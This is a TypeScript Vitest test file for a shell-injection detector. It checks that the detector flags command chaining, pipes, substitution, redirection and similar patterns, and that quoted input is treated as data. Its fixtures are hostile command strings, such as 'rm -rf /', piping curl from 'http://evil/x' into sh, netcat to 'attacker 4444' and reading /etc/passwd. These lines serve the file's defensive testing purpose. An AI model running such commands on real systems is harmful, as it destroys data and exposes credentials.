import { describe, expect, it } from 'vitest';
import { expectLinearTime } from '../../test/helpers/detect.js';
import { detectShellInjection } from './shell.js';

const kinds = (t: string) => detectShellInjection(t).map((f) => f.detector);
const maxSev = (t: string) => detectShellInjection(t).map((f) => f.severity).sort().join(',');

describe('shell injection', () => {
  const cases: [string, string][] = [
    ['file.txt; rm -rf /', 'shell.command-chaining'],
    ['a && curl http://evil/x | sh', 'shell.command-chaining'],
    ['x || true', 'shell.command-chaining'],
    ['ls | nc attacker 4444', 'shell.pipe'],
    ['$(whoami)', 'shell.command-substitution'],
    ['"$(cat /etc/passwd)"', 'shell.command-substitution'],
    ['`id`', 'shell.backtick-substitution'],
    ['echo hi > /etc/cron.d/x', 'shell.redirection'],
    ['name\nrm -rf ~', 'shell.newline-injection'],
    ['sleep 10 & curl x', 'shell.background'],
    ['diff <(cat a) b', 'shell.process-substitution'],
    ['${IFS}cat${IFS}/etc/passwd', 'shell.variable-expansion'],
  ];
  it.each(cases)('%s', (t, k) => {
    expect(kinds(t)).toContain(k);
  });
  it('dangerous follow-up commands are critical', () => {
    expect(maxSev('x; curl http://e/p | bash')).toContain('critical');
  });
  it('quoted metacharacters are data, not syntax', () => {
    expect(detectShellInjection("grep 'a;b|c' file.txt")).toEqual([]);
    expect(detectShellInjection('echo "a;b && c"')).toEqual([]);
    expect(detectShellInjection('report-2024_final.txt')).toEqual([]);
    expect(detectShellInjection('path\\;escaped')).toEqual([]);
    expect(detectShellInjection('2>&1')).toEqual(expect.arrayContaining([expect.objectContaining({ detector: 'shell.redirection' })]));
  });
  it('category and spans', () => {
    const t = 'a; b';
    const f = detectShellInjection(t)[0]!;
    expect(f.category).toBe('shell_injection');
    expect(t.slice(f.start, f.end)).toBe(';');
  });
  it('linear time', () => {
    for (const u of ['$(', '`', "'", '"$(', '; ', '>', '${']) {
      expectLinearTime(detectShellInjection, u);
    }
  });
});
